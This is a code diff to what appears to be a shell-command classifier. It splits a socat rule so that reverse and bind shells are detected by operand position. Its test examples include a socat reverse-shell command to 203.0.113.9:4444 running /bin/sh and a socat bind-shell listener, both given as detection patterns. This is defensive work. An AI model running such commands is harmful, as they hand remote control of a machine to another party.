@@ -76,10 +76,18 @@ const socat: Family = {
     {
       id: 'socat/shell',
       doc: 'Gives the other side a program here.',
-      when: { operand: { is: RUNS, literal: true }, operandNot: { is: HERE } },
+      when: { operand: { at: 1, is: RUNS, literal: true }, operandNot: { at: 0, is: HERE } },
       does: [{ effect: 'execution.reverse-shell' }],
-      match: ['socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty', 'socat exec:sh tcp-listen:99'],
+      match: ['socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty'],
       not: ['socat - EXEC:date', 'socat - TCP:example.com:80'],
+    },
+    {
+      id: 'socat/shell-first',
+      doc: 'Gives the other side a program here.',
+      when: { operand: { at: 0, is: RUNS, literal: true }, operandNot: { at: 1, is: HERE } },
+      does: [{ effect: 'execution.reverse-shell' }],
+      match: ['socat exec:sh tcp-listen:99'],
+      not: ['socat EXEC:date -', 'socat - TCP:example.com:80'],
     },
     { id: 'socat/program', doc: 'Runs a program.', when: { operand: { is: RUNS } }, does: [{ effect: 'execution.inline-code' }], match: ['socat - EXEC:date'], not: ['socat - TCP:example.com:80'] },
     {
